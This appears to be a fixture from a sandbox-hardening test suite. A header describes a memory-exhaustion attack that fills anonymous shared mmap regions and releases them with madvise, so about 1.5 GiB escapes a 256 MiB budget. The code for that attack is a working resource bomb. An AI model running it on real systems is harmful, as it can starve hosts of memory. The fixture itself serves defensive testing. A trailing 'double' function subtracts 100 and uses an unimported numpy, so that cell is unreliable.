# ---
# attack: 'Fills shared memory without a name piece by piece and lets go of each piece, which stays though no process maps it.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import mmap`'
# ---
# %% before="q1"
import mmap
import time

hoard, taken = [], 0
for _ in range(24):  # 1.5 GiB, the budget is 256 MiB
    piece = mmap.mmap(-1, 64 * 2**20)  # shared and anonymous
    for page in range(0, len(piece), 4096):
        piece[page] = 1
    piece.madvise(mmap.MADV_DONTNEED)
    hoard.append(piece)
    taken += 64
time.sleep(2)
assert all(piece[0] == 1 for piece in hoard)
raise RuntimeError(f"HOLE took {taken} MiB that nobody counts; " + open("/proc/self/status").read().split("VmRSS")[1][:200])

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
